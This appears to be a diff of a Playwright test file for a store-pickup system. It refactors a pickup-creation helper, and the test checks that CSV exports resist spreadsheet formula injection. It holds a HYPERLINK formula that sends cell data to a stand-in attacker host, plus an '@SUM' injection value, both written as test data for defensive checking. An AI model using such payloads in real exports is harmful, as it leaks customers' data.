@@ -1,9 +1,9 @@
 import { readFile } from "node:fs/promises";
 import { completeCpf, formatCpf } from "@passo/domain";
 import type { APIRequestContext, Request } from "@playwright/test";
-import { adminToken, createStore, expect, test } from "./support/fixtures";
+import { createStore, expect, test } from "./support/fixtures";
+import { createPickupThroughApi } from "./support/pickups";
 
-const TINY_PDF = Buffer.from("%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n");
 const FORMULA = '=HYPERLINK("http://atacante.example/?"&A1;"Clique")';
 
 /** A valid CPF no other test uses. */
@@ -11,27 +11,16 @@ const newCpf = () => completeCpf(`${1 + Math.floor(Math.random() * 9)}${String(M
 const newOrderNumber = () => `${Date.now()}`.slice(-13).padStart(16, "8");
 
 async function pickupOf(request: APIRequestContext, store: string, customerFullName: string, customerCPF: string, orderNumber: string) {
-  const headers = { authorization: `Bearer ${await adminToken(request)}` };
-  const uploaded = await request.post("/api/uploads/nfe", { headers, multipart: { invoiceFileName: { name: "nfe.pdf", mimeType: "application/pdf", buffer: TINY_PDF } } });
-  expect(uploaded.status(), await uploaded.text()).toBe(201);
-  const created = await request.post("/api/pickup/create", {
-    headers,
-    data: {
-      pickupStoreName: store,
-      scheduledPickupDate: new Intl.DateTimeFormat("en-CA", { timeZone: "America/Sao_Paulo" }).format(new Date()),
-      pickupType: "Disponível na loja",
-      orderNumber,
-      trackingCode: "TR7788",
-      invoiceFileName: (await uploaded.json()).filename,
-      customerFullName,
-      customerCPF,
-      customerPhone: "(41) 95555-4444",
-      customerEmail: "formula@email.com",
-      orderItems: ["@SUM(1+1)", "TENIS 42"],
-      authorizedThirdPartyPickup: false,
-    },
+  await createPickupThroughApi(request, {
+    pickupStoreName: store,
+    orderNumber,
+    trackingCode: "TR7788",
+    customerFullName,
+    customerCPF,
+    customerPhone: "(41) 95555-4444",
+    customerEmail: "formula@email.com",
+    orderItems: ["@SUM(1+1)", "TENIS 42"],
   });
-  expect(created.status(), await created.text()).toBe(201);
 }
 
 test("a pickup whose customer's name is a formula, searched by CPF and downloaded as CSV, opens as text; the CPF never travels in a URL", async ({ admin, request }) => {
